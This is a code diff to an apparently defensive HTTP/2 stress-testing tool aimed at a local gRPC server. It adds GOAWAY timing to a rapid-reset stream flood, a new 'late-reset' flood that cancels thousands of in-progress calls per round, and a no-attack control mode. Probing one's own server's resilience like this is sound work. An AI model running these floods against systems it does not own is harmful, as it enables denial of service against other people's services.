@@ -89,6 +89,7 @@ class Receiver:
     """Parses the server's frames from raw bytes and counts what it did."""
 
     def __init__(self):
+        self.started = time.monotonic()
         self.buf = bytearray()
         self.frames = Counter()
         self.rst = Counter()
@@ -129,6 +130,8 @@ class Receiver:
                 "error": code_name(int.from_bytes(payload[4:8], "big")),
                 "last_stream_id": int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF,
                 "debug": payload[8:200].decode("utf-8", "replace"),
+                # Since the connection was opened, or the flood began.
+                "after_s": round(time.monotonic() - self.started, 3),
             }
         elif ftype == 4 and not flags & 1:
             for i in range(0, len(payload) - 5, 6):
@@ -311,7 +314,9 @@ def rapid_reset(args):
     conn = Conn(args.host, args.port)
     conn.read(1.0)  # the server's SETTINGS
     headers = request_headers(args.port, "GetLearningStatus")
+    conn.rx.started = time.monotonic()  # a GOAWAY's time counts from here
     streams = 0
+    before_goaway = None
     stream_id = 1
     while streams < args.count and time.monotonic() < end and not conn.closed:
         for _ in range(args.batch):
@@ -322,15 +327,44 @@ def rapid_reset(args):
         if not conn.flush(end):
             break
         conn.read()
+        if conn.rx.goaway and before_goaway is None:
+            before_goaway = streams
     conn.drain(args.drain)
     conn.close()
-    emit(
-        "rapid-reset",
-        args,
-        started,
-        {"streams": streams, "frames": streams * 2, "last_stream_id": stream_id - 2},
-        conn.report(),
-    )
+    sent = {"streams": streams, "frames": streams * 2, "last_stream_id": stream_id - 2}
+    if before_goaway is not None:
+        sent["streams_before_goaway"] = before_goaway
+    emit("rapid-reset", args, started, sent, conn.report())
+
+
+def late_reset(args):
+    """Rounds of --batch streams (HEADERS only: the calls start and wait for their request), reset all at once with the next round's HEADERS."""
+    started = time.monotonic()
+    end = started + args.seconds
+    conn = Conn(args.host, args.port, unlimited_streams=True)
+    conn.read(1.0)
+    headers = request_headers(args.port, "GetLearningStatus")
+    conn.rx.started = time.monotonic()
+    streams = 0
+    stream_id = 1
+    previous = []
+    while streams < args.count and time.monotonic() < end and not conn.closed:
+        # The last round's calls have started: reset them, and open the next
+        # round in the same write, while their calls are still unfinished.
+        for sid in previous:
+            conn.h2.reset_stream(sid, ErrorCodes.CANCEL)
+        previous = []
+        for _ in range(args.batch):
+            conn.h2.send_headers(stream_id, headers)
+            previous.append(stream_id)
+            stream_id += 2
+            streams += 1
+        if not conn.flush(end):
+            break
+        conn.read(args.pause_ms / 1000)
+    conn.drain(args.drain)
+    conn.close()
+    emit("late-reset", args, started, {"streams": streams, "last_stream_id": stream_id - 2}, conn.report())
 
 
 def stall(args):
@@ -613,6 +647,13 @@ def no_read(args):
     )
 
 
+def no_flood(args):
+    """No attack: the same time with nothing sent, a control for the legitimate client's figures."""
+    started = time.monotonic()
+    time.sleep(args.seconds)
+    emit("none", args, started, {}, {})
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("--host", default="127.0.0.1")
@@ -628,7 +669,15 @@ def main():
             p.add_argument("--" + key.replace("_", "-"), type=int, default=default, help=help_text)
         return p
 
+    add("none", no_flood)
     add("rapid-reset", rapid_reset, count=(1_000_000, "most streams to open and reset"), batch=(100, "streams per write"))
+    add(
+        "late-reset",
+        late_reset,
+        count=(1_000_000, "most streams to open"),
+        batch=(2000, "streams per round"),
+        pause_ms=(200, "wait for a round's calls to start, in ms"),
+    )
     add("stall", stall, streams=(500, "streams to open"), window=(0, "INITIAL_WINDOW_SIZE we advertise"))
     # Ping: reading after each write catches the GOAWAY before the reset that
     # the server's close sends on a socket with unread pings.
